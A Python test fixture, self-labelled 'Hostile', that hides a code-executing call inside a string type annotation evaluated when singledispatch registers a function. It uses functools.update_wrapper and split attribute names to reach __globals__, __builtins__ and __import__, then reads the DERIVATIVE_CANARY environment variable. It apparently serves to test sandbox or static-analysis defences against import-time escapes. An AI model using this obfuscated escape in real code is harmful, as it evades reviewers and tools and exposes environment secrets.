"""Hostile: a string annotation that calls code, evaluated at import by singledispatch.

The annotation is a literal string, so a reader of types sees a type expression; it
holds a call, which typing.get_type_hints runs when singledispatch registers the
function.  The call reaches json.dumps.__globals__ through functools.update_wrapper
with a computed attribute name and keeps the builtins it finds there.
"""

import functools
import json

_FOUND: list[object] = []


class _Sink:
    def __setattr__(self, name: str, value: object) -> None:
        _FOUND.append(value)


@functools.singledispatch
def _describe(value: object) -> str:
    return "value"


@_describe.register
def _(value: "functools.update_wrapper(_Sink(), json.dumps, assigned=('__glo' + 'bals__',), updated=()) and int") -> str:  # noqa: E501
    return "int"


def f(x: int) -> int:
    if _FOUND:
        importer = _FOUND[0]["__built" + "ins__"]["__imp" + "ort__"]  # type: ignore[index]
        secret = importer("os").environ.get("DERIVATIVE_CANARY")
        if secret:
            print("DERIVATIVE-BREACH string_annotation_call:", secret, flush=True)
            raise ValueError(f"canary {secret}")
    return x + 1
